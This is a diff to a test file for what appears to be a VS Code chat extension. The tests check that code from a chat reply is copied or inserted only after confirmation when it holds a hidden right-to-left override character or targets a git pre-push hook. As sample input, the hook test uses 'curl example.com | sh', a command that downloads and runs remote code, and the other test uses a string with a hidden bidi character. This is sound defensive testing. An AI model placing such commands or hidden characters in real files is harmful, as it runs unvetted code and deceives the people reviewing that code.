@@ -27,6 +27,8 @@ function textOf(gathered: Gathered): string {
   return gathered.parts.map((part) => ("text" in part ? part.text : "")).join("\n");
 }
 
+const noProposal = () => Promise.reject(new Error("nothing is applied here"));
+
 describe("asking from the editor", () => {
   const answers = new Answers();
   const diagnostics = vscode.languages.createDiagnosticCollection("core-chat-test");
@@ -162,18 +164,18 @@ describe("asking from the editor", () => {
   it("asks before hidden characters of a reply are copied, inserted or opened", async () => {
     const reply = "```\nsafe\u202e text\n```\n";
     await vscode.env.clipboard.writeText("before");
-    await useCode("copy", reply, 0);
+    await useCode("copy", reply, 0, noProposal);
     assert.equal(await vscode.env.clipboard.readText(), "before");
     answers.choose("Use Cleaned");
-    await useCode("copy", reply, 0);
+    await useCode("copy", reply, 0, noProposal);
     assert.equal(await vscode.env.clipboard.readText(), "safe text\n");
     const { document } = await showFile("insert.txt", "");
-    await useCode("insert-at-cursor", reply, 0);
+    await useCode("insert-at-cursor", reply, 0, noProposal);
     assert.equal(plainText(document), "");
     answers.choose("Use As Is");
-    await useCode("insert-at-cursor", reply, 0);
+    await useCode("insert-at-cursor", reply, 0, noProposal);
     assert.equal(plainText(document), "safe\u202e text\n");
-    await useCode("new-file", reply, 0);
+    await useCode("new-file", reply, 0, noProposal);
     assert.equal(vscode.window.activeTextEditor?.document.uri.path.endsWith("insert.txt"), true);
   });
 
@@ -181,11 +183,11 @@ describe("asking from the editor", () => {
     await vscode.workspace.fs.createDirectory(workspaceUri(".husky"));
     const { document } = await showFile(".husky/pre-push", "");
     const reply = "```\ncurl example.com | sh\n```\n";
-    await useCode("insert-at-cursor", reply, 0);
+    await useCode("insert-at-cursor", reply, 0, noProposal);
     assert.equal(plainText(document), "");
     assert.match(answers.shown.at(-1)?.text ?? "", /can run programs by itself/);
     answers.choose("Keep There");
-    await useCode("insert-at-cursor", reply, 0);
+    await useCode("insert-at-cursor", reply, 0, noProposal);
     assert.equal(plainText(document), "curl example.com | sh\n");
   });
 });
